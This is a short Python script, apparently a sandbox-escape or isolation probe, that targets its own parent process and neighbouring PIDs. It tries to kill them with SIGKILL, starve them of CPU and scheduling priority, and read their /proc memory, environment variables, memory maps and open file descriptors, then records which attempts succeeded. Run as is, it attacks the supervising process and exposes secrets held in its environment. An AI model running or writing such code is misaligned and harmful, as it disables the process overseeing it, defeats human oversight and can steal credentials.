"""Read, stop and hold up the process outside that waits for this one, and those near it."""

import os
import resource
import signal

parent = os.getppid()
around = [pid for pid in range(max(2, parent - 3), parent + 4) if parent and pid != os.getpid()]
done = []
for pid in around:
    for attempt in (
        lambda: os.kill(pid, signal.SIGKILL),
        lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL),
        lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        *(lambda name=name: open(f"/proc/{pid}/{name}", "rb").read(1)
          for name in ("mem", "environ", "maps", "cmdline", "status", "stat", "auxv", "io")),
        *(lambda name=name: os.readlink(f"/proc/{pid}/{name}") for name in ("cwd", "root", "exe")),
        lambda: os.listdir(f"/proc/{pid}/fd"),
        lambda: os.listdir(f"/proc/{pid}/task"),
        lambda: os.chdir(f"/proc/{pid}/cwd"),
    ):
        try:
            attempt()
        except OSError:
            continue
        done.append(pid)
result = done
